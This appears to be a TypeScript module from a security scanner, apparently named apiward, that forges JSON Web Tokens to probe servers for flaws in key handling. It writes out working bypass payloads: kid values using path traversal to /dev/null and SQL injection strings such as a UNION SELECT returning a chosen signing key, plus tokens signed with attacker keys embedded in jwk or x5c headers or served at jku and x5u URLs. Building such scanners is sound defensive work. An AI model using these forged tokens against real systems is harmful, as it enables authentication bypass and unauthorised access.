import { KeyObject } from 'node:crypto';
import { exportJWK, generateKeyPair, type JWK } from 'jose';
import { patchObject } from './objects.ts';
import type { JsonObject, JwtHeader, ParsedJwt } from './parse.ts';
import { type HmacAlg, isHmacAlg, rawPayload, signHmac, signToken } from './sign.ts';
import type { ForgedToken } from './types.ts';
import { certificateToPem, selfSignedRsaCertificate } from './x509.ts';

function hmacAlgFor(parsed: ParsedJwt): HmacAlg {
  return isHmacAlg(parsed.alg) ? parsed.alg : 'HS256';
}

/** `kid` values that resolve to /dev/null (read as an empty key), from absolute and relative bases. */
export const KID_DEV_NULL = [
  '/dev/null',
  '../../../dev/null',
  '../../../../../../dev/null',
  '../../../../../../../../../../../../dev/null',
] as const;

/** `kid` values that make a SQL key lookup return the literal 'apiward', which then signs the token. */
export const KID_SQL = [
  { kid: "x' UNION SELECT 'apiward';--", dialect: 'SQLite/PostgreSQL' },
  { kid: "x' UNION SELECT 'apiward'-- -", dialect: 'MySQL' },
  { kid: "0 UNION SELECT 'apiward'", dialect: 'numeric kid column' },
] as const;

export const KID_SQL_KEY = 'apiward';

/** `kid` path traversal (empty HMAC key) and SQL injection (key 'apiward'); claims kept. */
export function kidInjectionTokens(parsed: ParsedJwt): ForgedToken[] {
  const alg = hmacAlgFor(parsed);
  const payload = rawPayload(parsed.segments.payload);
  const out: ForgedToken[] = KID_DEV_NULL.map((kid) => ({
    token: signHmac(patchObject(parsed.header, { kid }), payload, alg, ''),
    variant: `kid=${kid}, empty key`,
    description: `kid points at /dev/null (${kid}); ${alg} signed with an empty key, which is what reading that file yields.`,
    check: 'jwt-kid-injection',
  }));
  out.push({
    token: signHmac(patchObject(parsed.header, { kid: '' }), payload, alg, ''),
    variant: 'kid empty, empty key',
    description: `Empty kid; ${alg} signed with an empty key (lookups that fall back to an empty secret).`,
    check: 'jwt-kid-injection',
  });
  for (const { kid, dialect } of KID_SQL) {
    out.push({
      token: signHmac(patchObject(parsed.header, { kid }), payload, alg, KID_SQL_KEY),
      variant: `kid SQL injection (${dialect})`,
      description: `kid ${JSON.stringify(kid)} makes a SQL key lookup return '${KID_SQL_KEY}'; ${alg} signed with that key.`,
      check: 'jwt-kid-injection',
    });
  }
  return out;
}

export interface AttackerKey {
  privateKey: KeyObject;
  publicKey: KeyObject;
  /** Public JWK (no private members). */
  jwk: JWK;
}

/** Key pairs apiward signs with when it injects its own key. Generate once per scan and reuse. */
export interface AttackerKeys {
  rsa: AttackerKey;
  /** P-256. */
  ec: AttackerKey;
}

async function attackerKey(alg: 'RS256' | 'ES256'): Promise<AttackerKey> {
  const pair = await generateKeyPair(alg, {
    extractable: true,
    ...(alg === 'RS256' ? { modulusLength: 2048 } : {}),
  });
  return {
    privateKey: KeyObject.from(pair.privateKey),
    publicKey: KeyObject.from(pair.publicKey),
    jwk: await exportJWK(pair.publicKey),
  };
}

export async function generateAttackerKeys(): Promise<AttackerKeys> {
  const [rsa, ec] = await Promise.all([attackerKey('RS256'), attackerKey('ES256')]);
  return { rsa, ec };
}

/** RS/PS alg of the genuine token, or RS256. */
function rsaAlgFor(parsed: ParsedJwt): string {
  return /^(RS|PS)(256|384|512)$/.test(parsed.alg) ? parsed.alg : 'RS256';
}

function asJson(jwk: JWK): JsonObject {
  return JSON.parse(JSON.stringify(jwk)) as JsonObject;
}

export const ATTACKER_KID = 'apiward';

function header(parsed: ParsedJwt, patch: Record<string, JsonObject[string] | undefined>): JwtHeader {
  // Strip key-locating members of the genuine header so only the injected one can apply.
  return patchObject(parsed.header, {
    jku: undefined,
    x5u: undefined,
    x5c: undefined,
    jwk: undefined,
    ...patch,
  });
}

/**
 * Tokens signed with apiward's own key that travels in the token: `jwk` (RSA and EC P-256) and a
 * self-signed certificate in `x5c`. A server that trusts header-supplied keys accepts them.
 */
export async function embeddedJwkTokens(parsed: ParsedJwt, keys?: AttackerKeys): Promise<ForgedToken[]> {
  const k = keys ?? (await generateAttackerKeys());
  const payload = rawPayload(parsed.segments.payload);
  const rsaAlg = rsaAlgFor(parsed);
  const rsaJwk = asJson({ ...k.rsa.jwk, kid: ATTACKER_KID });
  const ecJwk = asJson({ ...k.ec.jwk, kid: ATTACKER_KID });
  const cert = Buffer.from(selfSignedRsaCertificate(k.rsa.publicKey, k.rsa.privateKey)).toString('base64');
  return [
    {
      token: await signToken(
        header(parsed, { alg: rsaAlg, kid: ATTACKER_KID, jwk: rsaJwk }),
        payload,
        k.rsa.privateKey,
      ),
      variant: `embedded jwk (RSA, ${rsaAlg})`,
      description: `Signed with a fresh RSA key whose public JWK is embedded in the header (${rsaAlg}).`,
      check: 'jwt-embedded-jwk',
    },
    {
      token: await signToken(
        header(parsed, { alg: 'ES256', kid: ATTACKER_KID, jwk: ecJwk }),
        payload,
        k.ec.privateKey,
      ),
      variant: 'embedded jwk (EC P-256, ES256)',
      description: 'Signed with a fresh P-256 key whose public JWK is embedded in the header (ES256).',
      check: 'jwt-embedded-jwk',
    },
    {
      token: await signToken(
        header(parsed, { alg: rsaAlg, kid: ATTACKER_KID, x5c: [cert] }),
        payload,
        k.rsa.privateKey,
      ),
      variant: `embedded x5c (self-signed, ${rsaAlg})`,
      description: `Signed with a fresh RSA key whose self-signed certificate is embedded in x5c (${rsaAlg}).`,
      check: 'jwt-embedded-jwk',
    },
  ];
}

export interface JkuAttack {
  tokens: ForgedToken[];
  /** Serve this JSON at the jku URL. */
  jwks: { keys: JsonObject[] };
}

/**
 * `jku` pointing at a JWKS the caller serves (a local listener): the fetch itself shows the server
 * follows header URLs; acceptance shows it trusts the keys found there. The JWKS carries apiward's
 * key under apiward's kid and under the genuine kid (servers that look the kid up in any set).
 */
export async function jkuTokens(parsed: ParsedJwt, jwksUrl: string, keys?: AttackerKeys): Promise<JkuAttack> {
  const k = keys ?? (await generateAttackerKeys());
  const alg = rsaAlgFor(parsed);
  const payload = rawPayload(parsed.segments.payload);
  const kids = [ATTACKER_KID];
  const original = parsed.header.kid;
  if (original !== undefined && original !== ATTACKER_KID) kids.push(original);
  const tokens: ForgedToken[] = [];
  for (const kid of kids) {
    tokens.push({
      token: await signToken(header(parsed, { alg, jku: jwksUrl, kid }), payload, k.rsa.privateKey),
      variant: kid === ATTACKER_KID ? 'jku → own JWKS' : 'jku → own JWKS, genuine kid',
      description: `jku set to ${jwksUrl}, which serves apiward's RSA key as kid ${JSON.stringify(kid)}; signed ${alg}.`,
      check: 'jwt-jku-injection',
    });
  }
  const jwks = { keys: kids.map((kid) => asJson({ ...k.rsa.jwk, kid, alg, use: 'sig' })) };
  return { tokens, jwks };
}

export interface X5uAttack {
  tokens: ForgedToken[];
  /** Serve this PEM (content type application/pem-certificate-chain) at the x5u URL. */
  certificatePem: string;
}

/** `x5u` pointing at a self-signed certificate the caller serves; signed with that certificate's key. */
export async function x5uTokens(parsed: ParsedJwt, certUrl: string, keys?: AttackerKeys): Promise<X5uAttack> {
  const k = keys ?? (await generateAttackerKeys());
  const alg = rsaAlgFor(parsed);
  const certificatePem = certificateToPem(selfSignedRsaCertificate(k.rsa.publicKey, k.rsa.privateKey));
  const token = await signToken(
    header(parsed, { alg, x5u: certUrl, kid: undefined }),
    rawPayload(parsed.segments.payload),
    k.rsa.privateKey,
  );
  return {
    tokens: [
      {
        token,
        variant: 'x5u → own certificate',
        description: `x5u set to ${certUrl}, which serves a self-signed certificate for apiward's RSA key; signed ${alg}.`,
        check: 'jwt-jku-injection',
      },
    ],
    certificatePem,
  };
}
